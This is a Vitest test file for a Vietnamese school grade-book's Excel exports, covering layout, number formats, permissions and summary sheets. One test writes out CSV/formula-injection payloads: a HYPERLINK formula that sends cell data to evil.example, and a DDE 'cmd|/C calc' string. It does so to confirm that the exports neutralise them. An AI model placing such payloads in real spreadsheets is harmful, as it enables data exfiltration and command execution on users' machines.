import ExcelJS from 'exceljs';
import { seedDemoScores } from '../server/demo/scores';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { accountFor, Client } from './helpers/client';
import { testDatabases } from './helpers/databases';
import { startServer, type TestServer } from './helpers/server';

/** Monday 23/11/2026 10:00 in Vietnam, in semester I of the demo year (the grade-book tests' clock). */
const NOW = Date.parse('2026-11-23T03:00:00.000Z');
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

async function workbookOf(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

/** The row whose cells (from column 1) start with these texts: the header row of a sheet. */
function rowStarting(ws: ExcelJS.Worksheet, ...texts: string[]): number {
  for (let r = 1; r <= Math.min(ws.rowCount, 12); r++) {
    if (texts.every((t, i) => ws.getRow(r).getCell(i + 1).value === t)) return r;
  }
  throw new Error(`no row starting with ${texts.join(', ')} in ${ws.name}`);
}
const rowValues = (ws: ExcelJS.Worksheet, r: number) => (ws.getRow(r).values as unknown[]).slice(1);
const texts = (ws: ExcelJS.Worksheet, r: number) => rowValues(ws, r).filter((v) => typeof v === 'string');

describe.each(testDatabases())('Excel exports on %s', (kind) => {
  let srv: TestServer;
  let gvbm: Client;
  let gvcn: Client;
  let principal: Client;
  let student: Client;
  let accountant: Client;
  let yearId: number;
  let schoolId: number;
  let s1: number;
  const cls: Record<string, number> = {};
  const subj: Record<string, number> = {};
  const login = (role: string) => new Client(srv.url).loginAs(accountFor(srv.accounts, role));
  const bookQuery = (subject = 'LS-DL', semesterId = s1) => `classId=${cls['6A1']}&subjectId=${subj[subject]}&semesterId=${semesterId}`;

  beforeAll(async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(NOW);
    srv = await startServer(kind);
    // The demo's September–November: scores entered, some closed, a few teachers behind.
    await seedDemoScores(srv.db);
    [gvbm, gvcn, principal, student, accountant] = await Promise.all([
      login('subject_teacher'),
      login('homeroom_teacher'),
      login('principal'),
      login('student'),
      login('accountant'),
    ]);
    const year = (await srv.db('school_years').where({ is_current: true }).first()) as { id: number; school_id: number };
    yearId = Number(year.id);
    schoolId = Number(year.school_id);
    for (const c of (await srv.db('classes').where({ school_year_id: yearId })) as Array<{ id: number; name: string }>) cls[c.name] = Number(c.id);
    for (const s of (await srv.db('subjects').where({ school_id: year.school_id })) as Array<{ id: number; code: string }>) subj[s.code] = Number(s.id);
    s1 = Number(((await srv.db('semesters').where({ school_year_id: yearId, number: 1 }).first('id')) as { id: number }).id);
  });
  afterAll(async () => {
    await srv?.close();
    vi.useRealTimers();
  });

  it('a grade book exports as the grid shows it: the title, a bold frozen header, scores as numbers with the decimal-comma format, landscape one page wide', async () => {
    const grid = (await gvbm.get(`/api/gradebook?${bookQuery()}`)).body;
    const res = await gvbm.download(`/api/exports/gradebook.xlsx?${bookQuery()}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe(XLSX);
    const name = `Sổ điểm 6A1 - ${grid.subject.name} - HK I - 2026-2027.xlsx`;
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="So diem 6A1 - Lich su va Dia li - HK I - 2026-2027.xlsx"; filename*=UTF-8''${encodeURIComponent(name)}`);

    const ws = (await workbookOf(res.bytes)).worksheets[0];
    expect(ws.name).toBe('Sổ điểm 6A1 HK I');
    const school = (await srv.db('schools').first('name')) as { name: string };
    expect(ws.getCell('A1').value).toBe(school.name.toUpperCase());
    expect(ws.getCell('A2').value).toBe('SỔ THEO DÕI VÀ ĐÁNH GIÁ HỌC SINH');
    expect(texts(ws, 3)).toEqual(['Lớp: 6A1', 'Môn học: Lịch sử và Địa lí', 'Học kỳ: I', 'Năm học: 2026-2027']);
    const h = rowStarting(ws, 'STT', 'Mã học sinh', 'Họ và tên');
    expect(rowValues(ws, h)).toEqual(['STT', 'Mã học sinh', 'Họ và tên', 'ĐĐGtx 1', 'ĐĐGtx 2', 'ĐĐGtx 3', 'ĐĐGtx 4', 'ĐĐGgk', 'ĐĐGck', 'ĐTBmhk', 'Nhận xét']);
    expect(ws.getRow(h).getCell(4).font?.bold).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: h, xSplit: 3 });
    expect(ws.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });

    let numbers = 0;
    grid.rows.forEach((row: any, i: number) => {
      const r = ws.getRow(h + 1 + i);
      expect([r.getCell(1).value, r.getCell(2).value, r.getCell(3).value]).toEqual([i + 1, row.student.code, row.student.fullName]);
      const stored = [...grid.columns.map((c: any) => row.cells[`${c.kind}:${c.seq}`].value), row.semesterResult];
      stored.forEach((v: string | null, j: number) => {
        const cell = r.getCell(4 + j);
        if (v === null) return expect(cell.value, `${row.student.code} column ${j}`).toBeNull();
        numbers += 1;
        // The number itself (not the text '8,5'), shown with one decimal in the Vietnamese format: 8,5.
        expect(cell.value).toBe(Number(v));
        expect(cell.numFmt).toBe('[$-42A]0.0');
      });
    });
    expect(numbers).toBeGreaterThan(20);
    expect(ws.getRow(h + grid.rows.length + 1).getCell(2).value).toBeNull();
  });

  it('semester II adds semester I and the year average; a comment subject writes Đ / CĐ as text', async () => {
    const s2 = Number(((await srv.db('semesters').where({ school_year_id: yearId, number: 2 }).first('id')) as { id: number }).id);
    const ws2 = (await workbookOf((await gvbm.download(`/api/exports/gradebook.xlsx?${bookQuery('LS-DL', s2)}`)).bytes)).worksheets[0];
    const h2 = rowStarting(ws2, 'STT', 'Mã học sinh');
    expect(rowValues(ws2, h2).slice(9)).toEqual(['ĐTBmhk I', 'ĐTBmhk II', 'ĐTBmcn', 'Nhận xét']);

    const q = `classId=${cls['6A1']}&subjectId=${subj['HĐTN-HN'] ?? subj['HDTN-HN']}&semesterId=${s1}`;
    const grid = (await gvcn.get(`/api/gradebook?${q}`)).body;
    expect(grid.subject.assessmentType).toBe('comment');
    const ws = (await workbookOf((await gvcn.download(`/api/exports/gradebook.xlsx?${q}`)).bytes)).worksheets[0];
    const h = rowStarting(ws, 'STT', 'Mã học sinh');
    expect(ws.getRow(h).getCell(4 + grid.columns.length).value).toBe('KQ học kỳ');
    const shown = { D: 'Đ', CD: 'CĐ' } as Record<string, string>;
    let comments = 0;
    grid.rows.forEach((row: any, i: number) => {
      grid.columns.forEach((c: any, j: number) => {
        const v = row.cells[`${c.kind}:${c.seq}`].value;
        if (v === null) return;
        comments += 1;
        expect(ws.getRow(h + 1 + i).getCell(4 + j).value).toBe(shown[v]);
      });
    });
    expect(comments).toBeGreaterThan(0);
  });

  it('text that looks like a formula is neutralised: a leading apostrophe, stored as text, never as a formula', async () => {
    const first = (await gvbm.get(`/api/gradebook?${bookQuery()}`)).body.rows[0];
    const hostileName = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    const before = (await srv.db('students').where({ id: first.student.id }).first('full_name')) as { full_name: string };
    await srv.db('students').where({ id: first.student.id }).update({ full_name: hostileName });
    const saved = await gvbm.put('/api/gradebook', {
      classId: cls['6A1'],
      subjectId: subj['LS-DL'],
      semesterId: s1,
      comments: [{ studentId: first.student.id, text: '@SUM(1+1)*cmd|"/C calc"!A0', version: first.comment.version }],
    });
    expect(saved.status).toBe(200);
    try {
      const ws = (await workbookOf((await gvbm.download(`/api/exports/gradebook.xlsx?${bookQuery()}`)).bytes)).worksheets[0];
      const h = rowStarting(ws, 'STT', 'Mã học sinh');
      const row = ws.getRow(1 + h + (await gvbm.get(`/api/gradebook?${bookQuery()}`)).body.rows.findIndex((r: any) => r.student.id === first.student.id));
      const name = row.getCell(3);
      const comment = row.getCell(ws.getRow(h).cellCount);
      expect(name.value).toBe(`'${hostileName}`);
      expect(comment.value).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
      for (const cell of [name, comment]) {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
      }
    } finally {
      await srv.db('students').where({ id: first.student.id }).update({ full_name: before.full_name });
    }
  });

  it('each export refuses (403) whoever may not read the view it mirrors, as that view does', async () => {
    const year = `schoolYearId=${yearId}`;
    const pairs = [
      [`/api/gradebook?${bookQuery()}`, `/api/exports/gradebook.xlsx?${bookQuery()}`],
      [`/api/results/class-summary?classId=${cls['6A1']}&${year}&semester=1`, `/api/exports/class-summary.xlsx?classId=${cls['6A1']}&${year}&semester=1`],
      [`/api/results/lists?${year}`, `/api/exports/result-lists.xlsx?${year}`],
      [`/api/progress?groupBy=teacher`, `/api/exports/progress.xlsx?groupBy=teacher`],
      [`/api/progress/overdue?by=column`, `/api/exports/overdue.xlsx?by=column`],
    ];
    for (const who of [student, accountant]) {
      for (const [view, file] of pairs) {
        expect((await who.get(view)).status, view).toBe(403);
        const res = await who.download(file);
        expect(res.status, file).toBe(403);
        expect(res.body.message).toBe('Bạn không có quyền thực hiện thao tác này.');
        expect(res.headers.get('content-disposition')).toBeNull();
      }
    }
    // A subject teacher reads their own grade book, not another teacher's.
    const other = await gvbm.download(`/api/exports/gradebook.xlsx?classId=${cls['6A1']}&subjectId=${subj['TOAN']}&semesterId=${s1}`);
    expect(other.status).toBe((await gvbm.get(`/api/gradebook?classId=${cls['6A1']}&subjectId=${subj['TOAN']}&semesterId=${s1}`)).status);
    expect((await new Client(srv.url).download(`/api/exports/gradebook.xlsx?${bookQuery()}`)).status).toBe(401);
    // The query is the view's: a missing parameter is its 400, in Vietnamese.
    const bad = await gvbm.download(`/api/exports/gradebook.xlsx?classId=${cls['6A1']}`);
    expect(bad.status).toBe(400);
  });

  it('the class summary sheet: one row per student, subjects by name, the same results as the page, the counts under it', async () => {
    // Semester I of 6A1 completed in two subjects (a scored one and a comment one), so the sheet has averages to show.
    const admin = Number(((await srv.db('users').where({ username: 'admin' }).first('id')) as { id: number }).id);
    for (const code of ['LS-DL', 'HDTN-HN']) {
      const book = (await principal.get(`/api/gradebook?classId=${cls['6A1']}&subjectId=${subj[code]}&semesterId=${s1}`)).body;
      const at = new Date().toISOString();
      const scored = book.subject.assessmentType === 'scored';
      const missing = book.rows.flatMap((r: any) =>
        book.columns
          .filter((c: any) => r.cells[`${c.kind}:${c.seq}`].value === null)
          .map((c: any) => ({
            school_id: schoolId,
            semester_id: s1,
            class_id: cls['6A1'],
            subject_id: subj[code],
            student_id: r.student.id,
            kind: c.kind,
            seq: c.seq,
            score: scored ? '7.5' : null,
            grade_text: scored ? null : 'D',
            first_entered_at: at,
            entered_by: admin,
            updated_at: at,
            updated_by: admin,
            version: 1,
          })),
      );
      for (let i = 0; i < missing.length; i += 100) await srv.db('assessment_scores').insert(missing.slice(i, i + 100));
    }
    expect((await principal.post('/api/results/recompute', { schoolYearId: yearId })).status).toBe(200);
    const q = `classId=${cls['6A1']}&schoolYearId=${yearId}&semester=1`;
    const data = (await gvcn.get(`/api/results/class-summary?${q}`)).body;
    const res = await gvcn.download(`/api/exports/class-summary.xlsx?${q}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('Bảng tổng hợp 6A1 - Học kỳ I - 2026-2027.xlsx')}`);
    const ws = (await workbookOf(res.bytes)).worksheets[0];
    expect(ws.name).toBe('Tổng hợp Học kỳ I');
    const h = rowStarting(ws, 'STT', 'Mã học sinh', 'Họ và tên');
    expect(rowValues(ws, h).slice(3, 3 + data.subjects.length)).toEqual(data.subjects.map((s: any) => s.name));
    const level: Record<string, string> = { T: 'Tốt', K: 'Khá', D: 'Đạt', CD: 'Chưa đạt' };
    let values = 0;
    data.rows.forEach((r: any, i: number) => {
      const row = ws.getRow(h + 1 + i);
      expect(row.getCell(2).value).toBe(r.student.code);
      data.subjects.forEach((s: any, j: number) => {
        const v = r.subjects[s.code]?.hk1 ?? null;
        const cell = row.getCell(4 + j);
        if (v === null) return expect(cell.value).toBeNull();
        values += 1;
        if (/^\d/.test(v)) {
          expect(cell.value).toBe(Number(v));
          expect(cell.numFmt).toBe('[$-42A]0.0');
        } else expect(cell.value).toBe(v === 'D' ? 'Đ' : 'CĐ');
      });
      expect(row.getCell(4 + data.subjects.length).value ?? null).toBe(r.learning.hk1 ? level[r.learning.hk1] : null);
    });
    expect(values).toBeGreaterThan(0);
    const notes = [0, 1].map((k) => String(ws.getRow(h + data.rows.length + 2 + k).getCell(1).value));
    expect(notes[0]).toMatch(/^Kết quả học tập: Tốt \d+, Khá \d+, Đạt \d+, Chưa đạt \d+, Chưa đủ dữ liệu \d+$/);
    expect(notes[1]).toMatch(/^Kết quả rèn luyện: /);
  });

  it('the year-end lists: one sheet per list with its students and its approval status; `list` picks one', async () => {
    const data = (await principal.get(`/api/results/lists?schoolYearId=${yearId}`)).body;
    const res = await principal.download(`/api/exports/result-lists.xlsx?schoolYearId=${yearId}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain(encodeURIComponent('Danh sách cuối năm - Toàn trường - 2026-2027.xlsx'));
    const wb = await workbookOf(res.bytes);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Lên lớp', 'Kiểm tra lại', 'Rèn luyện hè', 'Khen thưởng']);
    const promotion = wb.worksheets[0];
    expect(texts(promotion, 4)).toEqual(['Chưa được Hiệu trưởng phê duyệt']);
    const h = rowStarting(promotion, 'STT', 'Mã học sinh', 'Họ và tên', 'Lớp');
    expect(data.lists.promotion.items.length).toBeGreaterThan(100);
    data.lists.promotion.items.forEach((it: any, i: number) => {
      expect(rowValues(promotion, h + 1 + i).slice(1, 4)).toEqual([it.studentCode, it.fullName, it.className]);
    });
    expect(promotion.getRow(h + data.lists.promotion.items.length + 2).getCell(1).value).toBe(`Tổng số: ${data.lists.promotion.items.length} học sinh`);

    const one = await workbookOf((await gvcn.download(`/api/exports/result-lists.xlsx?schoolYearId=${yearId}&classId=${cls['6A1']}&list=awards`)).bytes);
    expect(one.worksheets.map((w) => w.name)).toEqual(['Khen thưởng']);
    expect(texts(one.worksheets[0], 3)).toEqual(['Năm học: 2026-2027', 'Lớp 6A1']);
  });

  it('progress per teacher and the overdue list: the same lines as the page, dates as real dates dd/mm/yyyy', async () => {
    const data = (await principal.get('/api/progress?groupBy=teacher&sort=late')).body;
    const ws = (await workbookOf((await principal.download('/api/exports/progress.xlsx?groupBy=teacher&sort=late')).bytes)).worksheets[0];
    expect(ws.name).toBe('Tiến độ theo giáo viên');
    const h = rowStarting(ws, 'STT', 'Giáo viên');
    const groups = [];
    for (let r = h + 1; r <= ws.rowCount; r++) if (typeof ws.getRow(r).getCell(1).value === 'number') groups.push(ws.getRow(r).getCell(2).value);
    expect(groups).toEqual(data.rows.map((r: any) => r.label));
    const total = rowValues(ws, ws.rowCount);
    expect(total[1]).toBe('Tổng cộng');
    expect(total.slice(4, 6)).toEqual([data.totals.required, data.totals.entered]);

    const overdue = (await principal.get('/api/progress/overdue?by=column&limit=5000')).body;
    expect(overdue.items.length).toBeGreaterThan(0);
    const ow = (await workbookOf((await principal.download('/api/exports/overdue.xlsx?by=column')).bytes)).worksheets[0];
    const oh = rowStarting(ow, 'STT', 'Giáo viên', 'Lớp', 'Môn học', 'Cột điểm');
    overdue.items.forEach((o: any, i: number) => {
      const r = ow.getRow(oh + 1 + i);
      expect([r.getCell(2).value, r.getCell(3).value, r.getCell(4).value, r.getCell(5).value, r.getCell(6).value]).toEqual([o.teacher.name, o.class.name, o.subject.name, o.column, o.students]);
      const due = r.getCell(8);
      // The cell holds the instant as Vietnam's wall clock (what the page shows), formatted dd/mm/yyyy hh:mm.
      expect((due.value as Date).getTime()).toBe(Date.parse(o.due) + 7 * 3_600_000);
      expect(due.numFmt).toBe('dd/mm/yyyy hh:mm');
    });
  });
});
